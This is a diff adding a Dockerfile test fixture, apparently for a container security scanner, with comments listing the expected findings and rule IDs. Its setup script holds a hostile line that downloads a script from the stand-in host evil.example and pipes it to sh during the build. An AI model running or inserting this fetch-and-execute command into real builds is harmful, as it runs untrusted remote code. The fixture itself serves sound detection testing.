@@ -1,0 +1,9 @@
+FROM alpine:3.20@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa
+COPY --chmod=755 <<EOF /setup.sh
+curl -s https://evil.example/x.sh | sh
+EOF
+RUN /setup.sh
+USER app
+# expect: download 5 high "piped straight into sh"
+# expect-count: 3
+# expect-ids: VR101-c33602e201 VR301-767a1989de VR501-e064bac1a6
